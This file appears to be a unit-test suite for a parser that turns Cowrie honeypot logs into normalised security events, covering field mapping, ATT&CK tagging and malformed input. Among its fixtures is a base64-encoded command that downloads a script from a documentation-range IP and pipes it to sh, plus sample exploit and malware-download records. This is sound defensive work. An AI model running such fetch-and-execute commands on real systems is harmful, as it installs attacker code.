import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { readEventLine } from '../../api/event-line.ts';
import type { DecoyEvent } from '../../model/event.ts';
import { createCowrieReader, type ReadCowrie } from './cowrie.ts';
import { cowrieEvents } from './cowrie-events.ts';

const recorded = join(
  import.meta.dirname,
  '../../../../shared/data/honeypots/cowrie-session-13da7b98b8d4.jsonl',
);

type Members = Readonly<Record<string, unknown>>;

/** Of one session, each a second after the one before. */
function linesOf(members: readonly Members[], session = 'a1b2c3d4e5f6'): string[] {
  return members.map((one, at) =>
    JSON.stringify({
      session,
      src_ip: '198.51.100.7',
      sensor: 'pot-1',
      timestamp: `2026-11-20T10:00:${String(at).padStart(2, '0')}.123456Z`,
      ...one,
      eventid: `cowrie.${one.eventid}`,
    }),
  );
}

const connect = {
  eventid: 'session.connect',
  src_port: 40_000,
  dst_ip: '192.0.2.5',
  dst_port: 2222,
  protocol: 'ssh',
};

function readAll(lines: readonly string[], sensor = 'cowrie'): ReadCowrie[] {
  const read = createCowrieReader(sensor);
  return lines.map((line) => read(line));
}

function eventsOf(lines: readonly string[], sensor?: string): DecoyEvent[] {
  return readAll(lines, sensor).map((one) => {
    assert.ok('event' in one, JSON.stringify(one));
    const delivered = readEventLine(JSON.stringify(one.event));
    assert.ok('event' in delivered, JSON.stringify(delivered));
    return delivered.event;
  });
}

/** The event of a line that follows a connection. */
function eventOf(line: Members): DecoyEvent {
  return eventsOf(linesOf([connect, line]))[1]!;
}

describe('a recorded session', {
  skip: !existsSync(recorded) && 'cowrie-session-13da7b98b8d4.jsonl is not here',
}, () => {
  const lines = existsSync(recorded) ? readFileSync(recorded, 'utf8').trim().split('\n') : [];

  it('becomes one event for each line, in one session and with the client that the lines before told', () => {
    const events = eventsOf(lines);
    assert.deepEqual(
      events.map((one) => one.type),
      ['ssh.connect', 'ssh.client', 'ssh.client', ...Array(6).fill('ssh.shell.input'), 'ssh.close'],
    );
    assert.deepEqual(new Set(events.map((one) => one.session)), new Set(['13da7b98b8d4']));
    assert.deepEqual(
      events.map((one) => one.seq),
      [1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
    );
    assert.equal(new Set(events.map((one) => one.boot)).size, 1);
    assert.deepEqual(events.at(-1)?.fp, {
      ua: 'SSH-2.0-libssh2_1.8.2',
      hassh: 'a7a87fbe86774c2e40cc4a7ea2ab1b3c',
    });
    assert.deepEqual(events[6]?.norm.commands, ['dmidecode', 'grep Vendor', 'head -n 1']);
    assert.ok(events.slice(3, 9).every((one) => one.attack.includes('T1059.004')));
    assert.equal(events.at(-1)?.data?.durationMs, 8428);
  });
});

describe('events of Cowrie', () => {
  it('have the connection’s own addresses, time and names', () => {
    const event = eventOf({ eventid: 'command.input', input: 'id' });
    assert.deepEqual(event.src, { ip: '198.51.100.7', port: 40_000 });
    assert.deepEqual(event.dst, { ip: '192.0.2.5', port: 2222 });
    assert.equal(event.ts, '2026-11-20T10:00:01.123456Z');
    assert.equal(event.sensor, 'pot-1');
    assert.equal(event.connection, 'a1b2c3d4e5f6');
  });

  it('keep what was sent, decoded and as it came', () => {
    const input = 'cd /tmp; echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L2Euc2g= | base64 -d | sh';
    const { norm, raw, data, severity, attack } = eventOf({ eventid: 'command.input', input });
    assert.deepEqual(norm.urls, ['http://198.51.100.9/a.sh']);
    assert.deepEqual(norm.hosts, ['198.51.100.9']);
    assert.equal(raw.sha256, createHash('sha256').update(input).digest('hex'));
    assert.equal(Buffer.from(raw.head, 'base64').toString(), input);
    assert.equal(data?.line, input);
    assert.equal(severity, 'high');
    assert.ok(attack.includes('T1105') && attack.includes('T1140'));
  });

  const told: readonly (readonly [line: Members, type: string, data: Members | undefined])[] = [
    [
      { eventid: 'session.params', arch: 'linux-x64-lsb', message: [] },
      'ssh.client',
      { arch: 'linux-x64-lsb' },
    ],
    [{ eventid: 'client.version', version: "b'SSH-2.0-Go'" }, 'ssh.client', { version: 'SSH-2.0-Go' }],
    [
      { eventid: 'client.kex', hassh: 'ab'.repeat(16), hasshAlgorithms: 'a;b;c;d', keyAlgs: ['x', 'y'] },
      'ssh.client',
      { algorithms: 'a;b;c;d', keyAlgorithms: 'x,y' },
    ],
    [{ eventid: 'client.size', width: 80, height: 24 }, 'ssh.client', { columns: 80, rows: 24 }],
    [{ eventid: 'client.var', name: 'LANG', value: 'C' }, 'ssh.client', { name: 'LANG', value: 'C' }],
    [
      { eventid: 'client.malformed_packet', messagenum: 20, datalen: 3, data: '0a0b0c' },
      'ssh.client',
      { messagenum: 20, data: '0a0b0c' },
    ],
    [
      {
        eventid: 'client.fingerprint',
        username: 'root',
        fingerprint: '0a:0b',
        key: 'ssh-rsa AAAA',
        type: 'ssh-rsa',
      },
      'ssh.auth',
      { user: 'root', method: 'publickey', key: { type: 'ssh-rsa', fingerprint: '0a:0b' } },
    ],
    [
      { eventid: 'login.failed', username: 'root', password: '' },
      'ssh.auth',
      { user: 'root', method: 'password', accepted: false, password: '' },
    ],
    [
      { eventid: 'login.success', username: 'root', password: 'admin' },
      'ssh.auth',
      { user: 'root', method: 'password', accepted: true, password: 'admin' },
    ],
    [{ eventid: 'command.input', input: 'ls' }, 'ssh.shell.input', { line: 'ls' }],
    [
      { eventid: 'session.input', input: 'a:b', realm: 'chpasswd' },
      'ssh.shell.input',
      { line: 'a:b', realm: 'chpasswd' },
    ],
    [{ eventid: 'command.failed', input: 'nproc2' }, 'ssh.shell.result', { line: 'nproc2', isKnown: false }],
    [{ eventid: 'command.success', input: 'ls' }, 'ssh.shell.result', { line: 'ls', isKnown: true }],
    [{ eventid: 'command.chpasswd', username: 'root' }, 'ssh.account.change', { user: 'root' }],
    [
      {
        eventid: 'session.file_download',
        url: 'http://198.51.100.9/x86',
        outfile: 'var/lib/cowrie/downloads/aa',
        shasum: 'AB'.repeat(32),
        destfile: '/tmp/x86',
        duplicate: false,
      },
      'ssh.file.put',
      {
        url: 'http://198.51.100.9/x86',
        path: '/tmp/x86',
        isKnown: false,
        artefacts: [{ name: '/tmp/x86', sha256: 'ab'.repeat(32), kept: false }],
      },
    ],
    [
      { eventid: 'session.file_upload', filename: 'sshd', outfile: 'aa', shasum: 'cd'.repeat(32) },
      'ssh.file.put',
      { path: 'sshd', artefacts: [{ name: 'sshd', sha256: 'cd'.repeat(32), kept: false }] },
    ],
    [
      { eventid: 'session.file_download.failed', url: 'http://example.invalid/a', error: 'no route' },
      'ssh.file.put',
      { url: 'http://example.invalid/a', problem: 'no route' },
    ],
    [
      {
        eventid: 'direct-tcpip.request',
        dst_ip: '203.0.113.9',
        dst_port: 25,
        orig_ip: '127.0.0.1',
        orig_port: 1,
      },
      'ssh.forward',
      { host: '203.0.113.9', port: 25, originHost: '127.0.0.1', originPort: 1 },
    ],
    [
      {
        eventid: 'direct-tcpip.redirect',
        dst_ip: '203.0.113.9',
        dst_port: 25,
        new_ip: '192.0.2.9',
        new_port: 2525,
      },
      'ssh.forward',
      { host: '203.0.113.9', port: 25, sentToHost: '192.0.2.9', sentToPort: 2525 },
    ],
    [
      { eventid: 'direct-tcpip.tunnel', dst_ip: 'mail.example.com', dst_port: '25' },
      'ssh.forward',
      { host: 'mail.example.com', port: 25 },
    ],
    [
      { eventid: 'direct-tcpip.data', dst_ip: '203.0.113.9', dst_port: 80, data: "b'GET / HTTP/1.1'" },
      'ssh.forward.data',
      { host: '203.0.113.9', port: 80 },
    ],
    [{ eventid: 'tunnelproxy-tcpip.data', data: 'x' }, 'ssh.forward.data', undefined],
    [
      { eventid: 'direct-tcpip.ja4', ja4: 't13d', dst_ip: '203.0.113.9', dst_port: 443 },
      'ssh.forward.data',
      { host: '203.0.113.9', port: 443, ja4: 't13d' },
    ],
    [
      { eventid: 'direct-tcpip.ja4h', ja4h: 'ge11', dst_ip: '203.0.113.9', dst_port: 80 },
      'ssh.forward.data',
      { host: '203.0.113.9', port: 80, ja4h: 'ge11' },
    ],
    [{ eventid: 'log.open', ttylog: 'tty/1' }, 'ssh.shell', { recording: 'tty/1' }],
    [
      { eventid: 'log.closed', ttylog: 'tty/1', size: 12, shasum: 'ef'.repeat(32), duration_ms: 1500 },
      'ssh.shell.close',
      { recording: 'tty/1', size: 12, sha256: 'ef'.repeat(32), durationMs: 1500 },
    ],
    [
      { eventid: 'telnet.option', command: 'WILL', option_name: 'NAWS', option_byte: 31 },
      'ssh.client',
      { negotiation: 'WILL', option: 'NAWS' },
    ],
    [{ eventid: 'telnet.error', error: 'bad' }, 'ssh.client', { problem: 'bad' }],
    [
      { eventid: 'telnet.exploit_attempt', cve: 'CVE-2026-24061', name: 'USER', value: '-f root' },
      'ssh.exploit',
      { cve: 'CVE-2026-24061', name: 'USER', value: '-f root' },
    ],
    [
      { eventid: 'telnet.exploit_success', cve: 'CVE-2026-24061', username: 'root', attempted_command: 'id' },
      'ssh.exploit',
      { cve: 'CVE-2026-24061', user: 'root', command: 'id' },
    ],
    [{ eventid: 'session.closed', duration: '12.5' }, 'ssh.close', { durationMs: 12_500 }],
    [{ eventid: 'session.closed', duration_ms: 7 }, 'ssh.close', { durationMs: 7 }],
    [
      { eventid: 'future.thing', strength: 3, deep: { a: 1 } },
      'ssh.other',
      { eventid: 'cowrie.future.thing', strength: 3 },
    ],
  ];
  for (const [line, type, data] of told) {
    it(`of ${line.eventid} are ${type}`, () => {
      const event = eventOf(line);
      assert.equal(event.type, type);
      assert.deepEqual(event.data, data);
    });
  }

  it('are all told above', () => {
    const ids = new Set(['session.connect', ...told.map(([line]) => line.eventid)]);
    assert.deepEqual(
      Object.keys(cowrieEvents).filter((id) => !ids.has(id)),
      [],
    );
  });

  it('of telnet are telnet’s, also where only their name says so', () => {
    const lines = linesOf([
      { ...connect, protocol: 'telnet', dst_port: 23 },
      { eventid: 'command.input', input: 'sh' },
    ]);
    assert.deepEqual(
      eventsOf(lines).map((one) => one.type),
      ['telnet.connect', 'telnet.shell.input'],
    );
    const [alone] = eventsOf(linesOf([{ eventid: 'telnet.option', command: 'WILL', option_name: 'NAWS' }]));
    assert.equal(alone?.type, 'telnet.client');
  });

  it('name hosts that files come from and connections go to', () => {
    const file = eventOf({ eventid: 'session.file_download', url: 'http://drop.example.com/a' });
    assert.deepEqual(file.norm.hosts, ['drop.example.com']);
    const forward = eventOf({ eventid: 'direct-tcpip.request', dst_ip: '203.0.113.9', dst_port: 25 });
    assert.deepEqual(forward.norm.hosts, ['203.0.113.9']);
    assert.deepEqual(forward.attack, ['T1090']);
  });

  it('do not believe what a visitor says of where he is', () => {
    const forward = {
      eventid: 'direct-tcpip.request',
      src_ip: '203.0.113.66',
      dst_ip: '203.0.113.9',
      dst_port: 25,
    };
    const { src, dst } = eventOf(forward);
    assert.equal(src.ip, '198.51.100.7');
    assert.equal(dst.ip, '192.0.2.5');
    assert.deepEqual(readAll(linesOf([forward])), [{ reason: 'src_ip is no address' }]);
  });

  it('of what Cowrie did by itself are passed over, and take no number', () => {
    const own = [
      'virustotal.scanfile',
      'reversedns.connect',
      'greynoise.result',
      'abuseipdb.started',
      'proxy.ssh',
    ];
    const lines = linesOf([connect, ...own.map((eventid) => ({ eventid })), { eventid: 'session.closed' }]);
    const read = readAll(lines);
    assert.deepEqual(read.slice(1, -1), Array(own.length).fill({ passedOver: true }));
    const last = read.at(-1)!;
    assert.equal('event' in last && last.event.seq, 2);
  });

  it('have UTC where Cowrie wrote local time', () => {
    const times = [
      ['2026-11-20T12:00:00.500000+0200', '2026-11-20T10:00:00.500Z'],
      ['2026-11-20T04:30:00.500000-05:30', '2026-11-20T10:00:00.500Z'],
      ['2026-11-20T10:00:00.123456', '2026-11-20T10:00:00.123456Z'],
    ];
    for (const [timestamp, ts] of times)
      assert.equal(eventsOf(linesOf([{ ...connect, timestamp }]))[0]?.ts, ts);
  });
});

describe('the identity of an event', () => {
  const lines = linesOf([connect, { eventid: 'command.input', input: 'id' }, { eventid: 'session.closed' }]);
  const names = (events: readonly DecoyEvent[]) =>
    events.map((one) => `${one.sensor} ${one.boot} ${one.seq} ${one.id}`);

  it('is the same whenever the file is read, also when it has grown', () => {
    assert.deepEqual(names(eventsOf(lines)), names(eventsOf(lines)));
    assert.deepEqual(names(eventsOf(lines.slice(0, 2))), names(eventsOf(lines)).slice(0, 2));
    assert.deepEqual(names(eventsOf([...lines, ...lines])).slice(3), names(eventsOf(lines)));
  });

  it('is another one for another sensor, another session, and the next file of the same one', () => {
    const boots = [
      eventsOf(lines),
      eventsOf(linesOf([connect], 'ffffffffffff')),
      eventsOf(linesOf([{ ...connect, sensor: 'pot-2' }])),
      eventsOf(lines.slice(1)),
    ].map(([first]) => first?.boot);
    assert.equal(new Set(boots).size, 4);
  });

  it('has a sensor that a server takes, whatever Cowrie calls it', () => {
    const sensors = ['', 'my pot/1', undefined].map(
      (sensor) => eventsOf(linesOf([{ ...connect, sensor }]), 'default')[0]?.sensor,
    );
    assert.deepEqual(sensors, ['default', 'my-pot-1', 'default']);
  });
});

describe('hostile lines', () => {
  it('are refused with a reason, and those behind them are read', () => {
    const bad: readonly (readonly [line: string, reason: string])[] = [
      ['', 'no JSON object'],
      ['{"eventid":', 'no JSON object'],
      ['[1]', 'no JSON object'],
      ['null', 'no JSON object'],
      [`${'['.repeat(200_000)}${']'.repeat(200_000)}`, 'no JSON object'],
      ['{"eventid":"kippo.x"}', 'no event of Cowrie'],
      ['{"eventid":7}', 'no event of Cowrie'],
      [linesOf([{ ...connect, timestamp: 'yesterday' }])[0]!, 'timestamp is no time'],
      [linesOf([{ ...connect, timestamp: '2026-13-45T99:00:00Z' }])[0]!, 'timestamp is no time'],
      [linesOf([{ ...connect, session: '' }])[0]!, 'session is missing'],
      [linesOf([{ ...connect, session: 'x'.repeat(65) }])[0]!, 'session is missing'],
      [linesOf([{ ...connect, src_ip: 'localhost' }])[0]!, 'src_ip is no address'],
    ];
    const good = linesOf([connect])[0]!;
    const read = readAll([...bad.map(([line]) => line), good]);
    assert.deepEqual(
      read.slice(0, -1),
      bad.map(([, reason]) => ({ reason })),
    );
    assert.ok('event' in read.at(-1)!);
  });

  it('become events within bounds, whatever their members are', () => {
    const long = 'A'.repeat(200_000);
    const deep = JSON.parse(`${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`);
    const members: readonly Members[] = [
      { eventid: 'command.input', input: long },
      { eventid: 'command.input', input: { a: 1 } },
      { eventid: 'login.failed', username: long, password: long },
      {
        eventid: 'client.kex',
        hassh: long,
        hasshAlgorithms: deep,
        keyAlgs: Array(1000).fill(long.slice(0, 100)),
      },
      { eventid: 'client.version', version: long },
      { eventid: 'session.file_download', url: long, destfile: long, shasum: 'no digest' },
      { eventid: 'direct-tcpip.request', dst_ip: long, dst_port: -1 },
      { eventid: '__proto__', a: deep },
      { eventid: 'constructor', toString: long },
      {
        eventid: 'future.thing',
        ...Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`m${at}`, long.slice(0, 300)])),
      },
    ];
    const events = eventsOf(linesOf([connect, ...members.map((one) => ({ ...one }))]));
    for (const event of events) assert.ok(JSON.stringify(event).length < 200_000, event.type);
    assert.deepEqual(events.at(-1)?.data, { shortened: true });
  });

  it('do not make it remember more sessions than it can: the one that was silent longest begins anew', () => {
    const read = createCowrieReader('x', 2);
    const bootOf = (id: string, line: Members): string => {
      const one = read(linesOf([line], id)[0]!);
      assert.ok('event' in one);
      return one.event.boot;
    };
    const command = { eventid: 'command.input', input: 'id', timestamp: '2026-11-20T11:00:00Z' };
    const [first, second] = [bootOf('1', connect), bootOf('2', connect)];
    assert.equal(bootOf('1', command), first);
    bootOf('3', connect);
    assert.equal(bootOf('1', command), first);
    assert.notEqual(bootOf('2', command), second);
  });
});
